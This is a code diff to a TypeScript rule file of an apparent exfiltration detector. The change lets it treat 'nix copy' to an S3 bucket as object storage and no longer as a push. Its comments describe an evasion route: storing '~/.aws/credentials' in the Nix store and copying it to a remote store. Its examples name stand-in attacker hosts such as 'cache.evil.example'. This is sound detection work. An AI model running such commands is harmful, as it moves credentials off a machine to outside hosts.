@@ -2,7 +2,9 @@
  * Nix store paths copied to another machine's store or a binary cache (evasion hunt, round 3: a derivation's
  * output is any file, `nix store add-file ~/.aws/credentials` puts one in the store, and a few KiB copied off by
  * `nix copy --to ssh-ng://HOST` raised nothing). Part of the push-tool table (../push-tools.ts). Every such copy
- * is a push, as a registry push is: a Nix CI job that pushes its build to its cache is allowlisted as any build.
+ * is a push, as a registry push is, but to object storage: a Nix CI job pushing its build to its cache reads the
+ * store, which is noise (../../correlate/paths.ts), so it is the low notice a registry push after a build is
+ * (test/scenarios/nix-ci-cache-push.test.ts).
  */
 import type { PushToolSpec } from '../types.js';
 import { HELP_FLAGS } from './flags.js';
@@ -13,10 +15,17 @@ import { HELP_FLAGS } from './flags.js';
  */
 const LOCAL_STORES = ['file://', 'local', 'daemon', 'auto', 'unix://', 'dummy://', '/', './', '../', '~/'];
 
+/**
+ * A binary cache in an S3 bucket (`s3://BUCKET?region=…`, also an S3-compatible endpoint) is object storage, which
+ * is no forge or registry: `aws s3 cp ~/.aws/credentials s3://BUCKET` sends the same file there in one step and is
+ * no push by design (docs/detection.md, "Not a push"), so nix's longer way there is none either (found by review).
+ */
+const OBJECT_STORAGE = ['s3://'];
+
 export const nixTools: readonly PushToolSpec[] = [
   {
     tool: 'nix',
-    description: '`nix copy --to STORE PATH…` to a store off the machine (`ssh://`, `ssh-ng://`, `s3://`, `https://`).',
+    description: '`nix copy --to STORE PATH…` to a store on another machine (`ssh://`, `ssh-ng://`, `https://`).',
     binaries: ['nix'],
     syntax: {
       valueFlags: [
@@ -31,7 +40,7 @@ export const nixTools: readonly PushToolSpec[] = [
           words: ['copy'],
           remote: { flag: ['--to'] },
           requireAnyFlag: [{ flags: ['--to'] }],
-          localRemotePrefix: LOCAL_STORES,
+          localRemotePrefix: [...LOCAL_STORES, ...OBJECT_STORAGE],
           excludeFlags: [...HELP_FLAGS, '--dry-run'],
         },
       ],
@@ -39,9 +48,13 @@ export const nixTools: readonly PushToolSpec[] = [
     destination: 'url',
     requiresClassedDestination: false,
     examples: {
-      push: ['copy --to ssh-ng://root@cache.evil.example /nix/store/x-y', 'copy --to s3://evil-cache /nix/store/x-y'],
+      push: [
+        'copy --to ssh-ng://root@cache.evil.example /nix/store/x-y',
+        'copy --to https://cache.evil.example /nix/store/x-y',
+      ],
       notPush: [
         'copy --to file:///tmp/c /nix/store/x-y',
+        'copy --to s3://acme-nix-cache?region=eu-west-1 /nix/store/x-y',
         'copy --from https://cache.nixos.org /nix/store/x-y',
         'build .#x',
       ],
